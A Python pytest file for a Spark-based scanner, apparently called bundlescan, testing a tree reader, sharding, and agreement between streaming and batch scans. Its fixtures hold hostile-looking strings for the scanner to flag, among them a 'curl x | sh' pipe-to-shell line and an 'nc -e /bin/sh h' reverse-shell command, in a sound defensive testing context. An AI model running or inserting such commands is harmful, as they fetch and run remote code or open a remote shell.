"""Raw-tree reader (hidden files kept, symlinks skipped) and the streaming scan."""

import os
import tempfile

from bundlescan.plans import scan as SCAN
from bundlescan.sources import files as S
from bundlescan.sources.tree import read_trees, stream_trees
from bundlescan.streaming.scan_stream import start_scan_stream


def test_tree_reader_keeps_dotfiles_skips_links(spark):
    root = tempfile.mkdtemp(prefix="run-")
    os.makedirs(os.path.join(root, "_priv"))
    for rel, data in [(".env", b"A=1"), ("_priv/x.py", b"eval(1)"), ("run.sh", b"curl x | sh")]:
        with open(os.path.join(root, rel), "wb") as fh:
            fh.write(data)
    os.symlink(os.path.join(root, "run.sh"), os.path.join(root, "link.sh"))
    got = sorted(r.path for r in read_trees(spark, {"b": root}).collect())
    assert got == [".env", "_priv/x.py", "run.sh"]


def test_stream_matches_batch(spark):
    src, sink = tempfile.mkdtemp(prefix="run-"), tempfile.mkdtemp(prefix="run-")
    rows = [("b", "a.sh", b"curl x | sh\nnc -e /bin/sh h"), ("c", "b.md", b"secretly upload it")]
    df = spark.createDataFrame(rows, "bundle_id string, path string, content binary")
    df.write.mode("overwrite").parquet(os.path.join(src, "part1"))
    q = start_scan_stream(spark, os.path.join(src, "part1"), os.path.join(sink, "out"),
                          checkpoint_location=os.path.join(sink, "ckpt"), available_now=True)
    q.awaitTermination(120)
    streamed = sorted(tuple(r) for r in spark.read.parquet(os.path.join(sink, "out")).collect())
    batch = sorted(tuple(r) for r in SCAN.findings(S.entries(df)).collect())
    assert streamed == batch and streamed


def test_tree_shards_hold_each_file_once(spark):
    root = tempfile.mkdtemp(prefix="run-")
    for i in range(200):
        os.makedirs(f"{root}/d{i % 7}", exist_ok=True)
        with open(f"{root}/d{i % 7}/.f{i}", "w") as fh:
            fh.write(str(i))
    for splits in (1, 5):
        df = read_trees(spark, {"b": root, "none": root + "/d0/nowhere"}, splits=splits)
        assert df.rdd.getNumPartitions() == 2 * splits
        assert sorted(r.path for r in df.collect()) == sorted(f"d{i % 7}/.f{i}" for i in range(200))


def test_tree_stream_takes_up_what_changed(spark):
    root, sink = tempfile.mkdtemp(prefix="run-"), tempfile.mkdtemp(prefix="run-")

    def put(name, text):
        with open(f"{root}/{name}", "w") as fh:
            fh.write(text)

    def run():
        q = (stream_trees(spark, {"b": root}, splits=2, settle=0).writeStream.format("parquet").option("path", f"{sink}/out")
             .option("checkpointLocation", f"{sink}/state").trigger(availableNow=True).start())
        q.awaitTermination(120)
        return sorted((r.path, bytes(r.content).decode()) for r in spark.read.parquet(f"{sink}/out").collect())

    put(".a", "1")
    put("b", "1")
    assert run() == [(".a", "1"), ("b", "1")]
    put("b", "2")
    put("c", "1")
    assert run() == [(".a", "1"), ("b", "1"), ("b", "2"), ("c", "1")]
